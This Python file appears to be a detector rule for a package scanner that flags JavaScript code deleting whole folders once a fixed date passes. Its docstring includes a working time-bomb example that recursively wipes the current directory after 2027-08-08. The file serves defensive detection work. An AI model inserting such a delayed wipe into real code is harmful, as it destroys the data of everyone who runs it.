"""The code wipes files from a certain day on.

*What it does*

Looks for whole folders that are deleted, in place or in a function that is called, under a condition that compares the
clock with a fixed day, month or year. Files that are deleted for their age are left alone.

*Why it matters*

A wipe that waits is not seen by whoever tries a package out, and all who use it are hit at once (public reports of 2025
on packages for databases and controllers).

*Example*

    const fs = require("fs");
    if (Date.now() > new Date("2027-08-08").getTime()) {
      fs.rmSync(process.cwd(), { recursive: true, force: true });
    }
"""

from __future__ import annotations

from collections.abc import Iterator

from assay.detectors.source._acts import Weight, when
from assay.detectors.source._traits import traits
from assay.javascript.conditions import TIME_HARM
from assay.model.finding import Evidence, Finding, finding
from assay.model.rule import Concern, Rule, Severity
from assay.model.subject import Subject

RULE = Rule(
    id="time-condition",
    title="Deletes folders from a certain day on",
    severity=Severity.HIGH,
    concern=Concern.MALICE,
    advice="Do not use it. If it is in use, remove it before that day, and keep a backup.",
    techniques=("T1485", "T1480"),
)
_WEIGHT = Weight(on_install=Severity.HIGH, when_used=Severity.HIGH, by_command=Severity.LOW)


def detect(subject: Subject) -> Iterator[Finding]:
    """One finding for each file that does so."""
    for file, trait in traits(subject, (TIME_HARM,)):
        severity, confidence = _WEIGHT.of(file)
        yield finding(
            RULE,
            f"{file.path} of {subject.ref} deletes folders from a certain day on {when(file)}",
            Evidence(trait.detail, trait.location),
            severity=severity,
            confidence=confidence,
        )
